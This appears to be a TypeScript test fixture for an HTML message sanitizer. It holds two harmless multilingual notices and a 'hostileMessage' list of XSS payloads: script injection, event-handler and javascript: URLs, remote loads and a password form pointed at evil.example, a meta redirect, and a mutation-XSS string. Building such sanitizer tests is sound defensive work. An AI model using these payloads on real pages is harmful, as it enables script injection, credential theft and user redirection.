/** The message of the persona `message`, and the first one of `messages`. */
export const maintenanceMessage = {
  id: 4071,
  message: {
    en: '<p><strong>Planned maintenance.</strong> On Sunday from 03:00 to 04:00 UTC, new tasks will wait in the queue.</p><ul><li>No tasks will be lost.</li><li>Prices won’t change: <a href="/pricing">see prices</a>.</li></ul>',
    ru: '<p><strong>Плановые работы.</strong> В воскресенье с 03:00 до 04:00 UTC новые задания ждут в очереди.</p><ul><li>Ни одно задание не потеряется.</li><li>Цены не изменятся: <a href="/pricing">посмотреть цены</a>.</li></ul>',
    zh: '<p><strong>计划维护。</strong>周日 03:00 至 04:00（UTC）新任务将在队列中等待。</p><ul><li>不会丢失任何任务。</li><li>价格不变：<a href="/pricing">查看价格</a>。</li></ul>',
  },
}

/** The second message of `messages`; there is none in Chinese. */
export const linkMessage = {
  id: 4072,
  message: {
    en: '<h3>New terms of use</h3><p>They apply from May 1. <a href="https://glyphwork.example/pricing">What changes</a>, or <a href="mailto:help@glyphwork.example">ask us</a>; the background is <a href="https://www.w3.org/TR/WCAG22/" title="W3C">here</a>.</p>',
    ru: '<h3>Новые условия</h3><p>Они действуют с 1 мая. <a href="https://glyphwork.example/pricing">Что изменится</a>, или <a href="mailto:help@glyphwork.example">спросите нас</a>; подробности — <a href="https://www.w3.org/TR/WCAG22/" title="W3C">здесь</a>.</p>',
    zh: '',
  },
}

/**
 * Attacks that must not run, load or navigate. Each one that succeeds would set `pwned` or call
 * evil.example.
 */
export const hostileMessage = {
  id: 4073,
  message: {
    en: [
      '<p>Read <b>this</b> and <a href="javascript:window.pwned=1" id="root">do not press here</a>.</p>',
      '<script>window.pwned=1</script><script src="https://evil.example/x.js"></script>',
      '<img src="https://evil.example/x.png" onerror="window.pwned=1"><img src=x onerror=window.pwned=1>',
      '<svg onload="window.pwned=1"><animate onbegin="window.pwned=1" attributeName="x"/><a xlink:href="javascript:window.pwned=1"><text>svg</text></a></svg>',
      '<iframe src="https://evil.example/frame" srcdoc="<script>parent.pwned=1</script>"></iframe>',
      '<style>@import "https://evil.example/x.css"; body { display: none }</style><link rel="stylesheet" href="https://evil.example/y.css">',
      '<p style="background: url(https://evil.example/z.png); position: fixed; inset: 0">styled</p>',
      '<form action="https://evil.example/"><input name="password" autofocus onfocus="window.pwned=1"><button>send</button></form>',
      '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
      '<a href="//evil.example/a">a</a> <a href="/\\evil.example/b">b</a> <a href="data:text/html,<script>parent.pwned=1</script>">c</a> <a href="https://evil.example/d" target="_blank" ping="https://evil.example/p">elsewhere</a>',
      '<video src="https://evil.example/v.mp4" autoplay></video><object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
      '<p class="visually-hidden" id="content" name="cookie" data-over onclick="window.pwned=1">The end.</p>',
      // The last attack, because it swallows what follows it.
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
    ].join(''),
  },
}
